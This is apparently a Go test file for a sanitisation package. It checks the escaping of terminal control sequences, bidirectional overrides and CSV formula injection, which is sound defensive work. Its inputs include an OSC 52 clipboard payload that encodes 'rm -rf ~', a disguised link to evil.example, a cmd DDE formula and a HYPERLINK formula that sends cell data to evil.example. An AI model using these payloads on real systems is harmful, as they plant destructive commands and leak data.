package textsafe_test

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"
	"unicode/utf8"

	"github.com/vigil-hrd/vigil/internal/textsafe"
)

func TestTerminal(t *testing.T) {
	for _, tc := range []struct {
		name, in, want, wantLine string // wantLine "" means the same as want
	}{
		{"plain", "They searched the office.", "They searched the office.", ""},
		{"empty", "", "", ""},
		{"clear screen", "a\x1b[2Jb", `a\x1b[2Jb`, ""},
		{"rewrite the line above", "\x1b[1A\x1b[2Kstatus: closed", `\x1b[1A\x1b[2Kstatus: closed`, ""},
		{"OSC 52 sets the clipboard", "\x1b]52;c;cm0gLXJmIH4=\x07", `\x1b]52;c;cm0gLXJmIH4=\x07`, ""},
		{"OSC 8 disguises a link", "\x1b]8;;https://evil.example\x1b\\mission.eu\x1b]8;;\x1b\\",
			`\x1b]8;;https://evil.example\x1b\mission.eu\x1b]8;;\x1b\`, ""},
		{"C1 CSI", "\u009b2J", `\u009b2J`, ""},
		{"C1 range ends", "\u0080\u009f\u00a0", `\u0080\u009f` + "\u00a0", ""},
		{"raw 0x9b byte", "a\x9b2Jb", `a\x9b2Jb`, ""},
		{"DEL", "ab\x7fc", `ab\x7fc`, ""},
		{"NUL, BEL, backspace, CR", "\x00\x07\b\r", `\x00\x07\x08\x0d`, ""},
		{"newline and tab kept", "line one\n\tline two", "line one\n\tline two", `line one\x0a\x09line two`},
		{"Arabic", "هددونا في المكتب", "هددونا في المكتب", ""},
		{"Hebrew", "שלום, 12 אנשים", "שלום, 12 אנשים", ""},
		{"Persian with a joiner", "می\u200cخواهم", "می\u200cخواهم", ""},
		{"direction marks kept", "\u200fABC\u200e\u061c", "\u200fABC\u200e\u061c", ""},
		{"override escaped", "case is \u202edesolc\u202c", `case is \u202edesolc\u202c`, ""},
		{"every embedding and override", "\u202a\u202b\u202c\u202d\u202e", `\u202a\u202b\u202c\u202d\u202e`, ""},
		{"closed isolates kept", "\u2066a\u2069 \u2067b\u2069 \u2068c\u2069", "\u2066a\u2069 \u2067b\u2069 \u2068c\u2069", ""},
		{"a defender's words as Vigil isolates them", "المكان: \u2068Odesa\u2069\n\u2068شارع\u2069", "المكان: \u2068Odesa\u2069\n\u2068شارع\u2069",
			`المكان: ` + "\u2068Odesa\u2069" + `\x0a` + "\u2068شارع\u2069"},
		{"nested isolates kept", "\u2067a \u2066b\u2069 c\u2069", "\u2067a \u2066b\u2069 c\u2069", ""},
		{"isolate left open", "\u2067status: closed", `\u2067status: closed`, ""},
		{"pop that closes nothing", "a\u2069 b", `a\u2069 b`, ""},
		{"open isolate inside a closed one", "\u2068a \u2067b\u2069", `\u2068a ` + "\u2067b\u2069", ""},
		{"isolate closed on the next line", "\u2067a\nb\u2069", `\u2067a` + "\nb" + `\u2069`, "\u2067a" + `\x0a` + "b\u2069"},
		{"paragraph separator ends isolates", "\u2067a\u2029b\u2069", `\u2067a` + "\u2029b" + `\u2069`, ""},
		{"replacement character kept", "a\ufffdb", "a\ufffdb", ""},
		{"literal backslash kept", `C:\x1b`, `C:\x1b`, ""},
		{"emoji", "👍🏽", "👍🏽", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := textsafe.Terminal(tc.in); got != tc.want {
				t.Errorf("Terminal(%q) = %q, want %q", tc.in, got, tc.want)
			}
			wantLine := tc.wantLine
			if wantLine == "" {
				wantLine = tc.want
			}
			if got := textsafe.TerminalLine(tc.in); got != wantLine {
				t.Errorf("TerminalLine(%q) = %q, want %q", tc.in, got, wantLine)
			}
		})
	}
}

func TestCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Odesa", "Odesa"},
		{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
		{`=HYPERLINK("https://evil.example/?"&A2,"click")`, `'=HYPERLINK("https://evil.example/?"&A2,"click")`},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"a=1+1", "a=1+1"},
		{" =1+1", " =1+1"},
		{"'quoted", "'quoted"},
		{"مرحبا =1", "مرحبا =1"},
	} {
		if got := textsafe.CSVCell(tc.in); got != tc.want {
			t.Errorf("CSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestCSV: every cell goes through CSVCell, the rest is ordinary CSV, and
// the caller's row is left as it was.
func TestCSV(t *testing.T) {
	rows := [][]string{
		{"event_id", "local_geographical_area", "event_description"},
		{"AAAA-0001", "=HYPERLINK(\"x\")", "line one\nline \"two\", with a comma"},
		{"AAAA-0002", "@A1", "-"},
	}
	before := slices.Clone(rows[1])
	var buf bytes.Buffer
	w := textsafe.NewCSV(&buf)
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(rows[1], before) {
		t.Errorf("Write changed its row: %q", rows[1])
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{rows[0],
		{"AAAA-0001", "'=HYPERLINK(\"x\")", "line one\nline \"two\", with a comma"},
		{"AAAA-0002", "'@A1", "'-"}}
	if !slices.EqualFunc(got, want, slices.Equal) {
		t.Errorf("read back\n got %q\nwant %q", got, want)
	}
}

// FuzzTerminal: whatever the input, the output is valid UTF-8 without a
// control character other than line feed and tab (none at all on one
// line), without a bidirectional embedding or override, with every
// isolate closed on its line; and text that already was so is unchanged.
func FuzzTerminal(f *testing.F) {
	for _, s := range []string{"", "plain", "\x1b[2J", "\x1b]52;c;eA==\x07", "\u009b1m", "\xff\x9b", "\u202eabc", "שלום\n\tمرحبا",
		"\u2068a\u2069", "\u2067a\nb\u2069", "a\u2069\u2066"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, oneLine := range []bool{false, true} {
			out := textsafe.Terminal(s)
			if oneLine {
				out = textsafe.TerminalLine(s)
			}
			if !utf8.ValidString(out) {
				t.Fatalf("%q: invalid UTF-8 %q", s, out)
			}
			if r, ok := safe(out, oneLine); !ok {
				t.Fatalf("%q (one line %v): %U left in %q", s, oneLine, r, out)
			}
			if _, ok := safe(s, oneLine); ok && utf8.ValidString(s) && out != s {
				t.Fatalf("%q (one line %v): changed to %q", s, oneLine, out)
			}
		}
	})
}

// safe reports whether s is fit for a terminal as the package promises,
// and if not, the first rune that is not.
func safe(s string, oneLine bool) (rune, bool) {
	open := 0
	for _, r := range s {
		switch {
		case r == '\n' && !oneLine, r == 0x2029:
			if open > 0 {
				return 0x2066, false
			}
		case r == '\t' && !oneLine:
		case r < 0x20, r >= 0x7f && r <= 0x9f, r >= 0x202a && r <= 0x202e:
			return r, false
		case r >= 0x2066 && r <= 0x2068:
			open++
		case r == 0x2069:
			if open == 0 {
				return r, false
			}
			open--
		}
	}
	if open > 0 {
		return 0x2066, false
	}
	return 0, true
}
